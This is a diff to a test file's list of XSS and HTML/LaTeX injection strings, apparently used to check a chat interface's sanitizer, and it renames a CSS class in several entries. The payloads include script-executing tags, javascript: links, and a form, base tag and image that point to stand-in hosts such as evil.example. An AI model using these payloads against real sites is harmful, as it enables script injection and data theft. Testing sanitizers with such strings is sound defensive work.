@@ -206,7 +206,7 @@ ATTACKS = [
     "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
     "<a href='javascript:alert(1)' style='position:fixed;inset:0'>x</a>",
     "<form action=http://evil.example><input name=x><button>go</button></form>",
-    "<p id=login class=chat-code>x</p>",
+    "<p id=login class=llm-chat-code>x</p>",
     "<base href=http://evil.example/><meta http-equiv=refresh content=0>",
     "<!--><img src=x onerror=alert(1)>-->",
     "<![CDATA[><img src=x onerror=alert(1)>]]>",
@@ -218,7 +218,7 @@ ATTACKS = [
     "$\\text{<script>alert(1)</script>}$",
     "$\\text{</mtext></math><img src=x onerror=alert(1)>}$",
     "$\\href{javascript:alert(1)}{x}$",
-    "$\\style{position:fixed;inset:0}{x}$ $\\class{chat-code}{x}$",
+    "$\\style{position:fixed;inset:0}{x}$ $\\class{llm-chat-code}{x}$",
     "$\\unicode{x3c}script\\unicode{x3e}$",
     "$\\text{&lt;script&gt;}&#60;img src=x onerror=alert(1)&#62;$",
     "$\\verb|<img src=x onerror=alert(1)>|$ $\\operatorname{<b>}$",
@@ -267,7 +267,7 @@ ATTACKS = [
     "<button type=button data-action=retry>x</button><p data-message=x data-role=assistant data-status=running>x</p>",
     # Formulas
     "$\\text{<img src=x onerror=alert(1)>}$ $\\text{<svg/onload=alert(1)>}$ $\\mathrm{<script>alert(1)</script>}$",
-    "$\\href{javascript:alert(1)}{click}$ \\(\\url{javascript:alert(1)}\\) $\\htmlClass{chat-code}{x}$ $\\cssId{x}{y}$",
+    "$\\href{javascript:alert(1)}{click}$ \\(\\url{javascript:alert(1)}\\) $\\htmlClass{llm-chat-code}{x}$ $\\cssId{x}{y}$",  # noqa: E501
     "$\\includegraphics{https://collect.example/i.png}$ $\\htmlStyle{position:fixed}{x}$ $\\data{x}{y}$",
     "\\[\\begin{matrix}<img src=x onerror=alert(1)> & \\text{</math><script>alert(1)</script>}\\end{matrix}\\]",
     '$$\\text{<annotation-xml encoding="text/html"><svg onload=alert(1)></annotation-xml>}$$',
